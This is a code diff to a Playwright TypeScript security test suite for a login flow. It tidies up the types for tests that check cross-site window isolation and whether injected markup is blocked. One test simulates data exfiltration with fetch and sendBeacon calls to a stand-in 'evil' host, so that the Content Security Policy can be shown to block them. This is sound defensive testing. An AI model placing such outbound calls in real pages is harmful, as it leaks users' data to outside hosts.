@@ -3,6 +3,14 @@ import type { BrowserContext, Page } from '@playwright/test';
 import { findFreePort } from '#scripts/processes.ts';
 import { expect, test as journey } from './journey.ts';
 
+declare global {
+  /** What the pages of an attacker keep for the test to look at. */
+  interface Window {
+    opened: Window;
+    violations: string[];
+  }
+}
+
 const SESSION = 'call-login-session';
 const ATTEMPT = 'call-login-attempt';
 
@@ -263,7 +271,7 @@ for (const name of ['otherSite', 'sibling'] as const) {
     await expect(opened.getByRole('heading', { level: 1 })).toBeVisible();
     expect(await opened.evaluate(() => window.opener)).toBeNull();
     const reach = await page.evaluate(() => {
-      const { opened: other } = window as unknown as { opened: Window };
+      const { opened: other } = window;
       try {
         return [other.closed, other.length, String(other.document)];
       } catch (error) {
@@ -442,8 +450,7 @@ test('markup that got into a page runs nothing, and is seen to', async ({
     void fetch(`${to}/fetch`, { mode: 'no-cors' }).catch(() => {});
     navigator.sendBeacon(`${to}/beacon`, 'x');
   }, evil);
-  const blocked = () =>
-    page.evaluate(() => [...new Set((window as unknown as { violations: string[] }).violations)]);
+  const blocked = () => page.evaluate(() => [...new Set(window.violations)]);
   await expect
     .poll(blocked)
     .toEqual(
